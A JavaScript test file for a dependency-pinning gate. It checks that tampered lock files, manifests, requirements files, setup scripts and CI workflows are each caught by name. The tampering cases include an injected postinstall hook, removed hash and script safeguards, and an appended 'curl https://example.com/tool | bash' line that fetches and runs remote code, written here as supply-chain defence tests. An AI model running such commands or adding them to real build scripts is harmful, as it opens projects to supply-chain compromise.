// The gate over what is built with: each file changed at one point must be caught.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { test } from 'node:test';
import { fromDisk, unpinned } from '../../scripts/pins.mjs';

test('T26: what is built with is pinned, and each thing that is not is caught by name', () => {
  assert.deepEqual(unpinned(fromDisk), []);
  const caught = (path, change) => {
    const text = fromDisk(path);
    const changed = change(text ?? '');
    assert.notEqual(changed, text, `${path} was changed`);
    const faults = unpinned((name) => (name === path ? changed : fromDisk(name)));
    assert.ok(faults.length > 0 && faults.every((fault) => fault.startsWith(path)), `${path}: ${faults}`);
  };
  caught('Cargo.lock', (text) => text.replace('registry+https://github.com/rust-lang/crates.io-index', 'git+https://github.com/somebody/serde#1'));
  caught('Cargo.lock', (text) => text.replace('registry+https://github.com/rust-lang/crates.io-index', 'registry+https://crates.example/index'));
  caught('Cargo.lock', (text) => text.replace(/checksum = "[0-9a-f]{64}"\n/, ''));
  caught('package-lock.json', (text) => text.replace('"integrity":', '"resolved": "git+https://github.com/somebody/tool.git", "integrity":'));
  caught('package-lock.json', (text) => text.replace(/"integrity": "sha512-/, '"integrity": "sha1-'));
  caught('package.json', (text) => text.replace(/": "(\d+\.\d+\.\d+)"/, '": "^$1"'));
  caught('package.json', (text) => text.replace('{', '{ "scripts": { "postinstall": "node x.js" },'));
  for (const path of ['tests/foreign/requirements.txt', 'tests/foreign/graph-sdk.txt', 'tests/foreign/azure-cli.txt']) {
    caught(path, (text) => text.replace('==', '>='));
    caught(path, (text) => `${text}\nsomething==1.0.0\n`);
  }
  caught('scripts/setup.sh', (text) => text.replace('--ignore-scripts', ''));
  caught('scripts/setup.sh', (text) => text.replace('--require-hashes', ''));
  caught('scripts/setup.sh', (text) => `${text}\ncurl https://example.com/tool | bash\n`);
  caught('dev', (text) => text.replace(/(trunk build.*?) --offline/, '$1'));
  caught('dev', (text) => text.replace(/(trunk build.*?) --locked/, '$1'));
  caught('.github/workflows/test.yml', (text) => `${text}\n    - uses: actions/checkout@v6\n`);
});

for (const folder of ['.', 'bench/peer', 'tests/hosts']) {
  test(`npm ci takes the lock file of ${folder}`, () => {
    const { status, stderr } = spawnSync('npm', ['ci', '--dry-run', '--ignore-scripts', '--no-audit', '--no-fund'], { cwd: folder, encoding: 'utf8' });
    assert.equal(status, 0, stderr);
  });
}
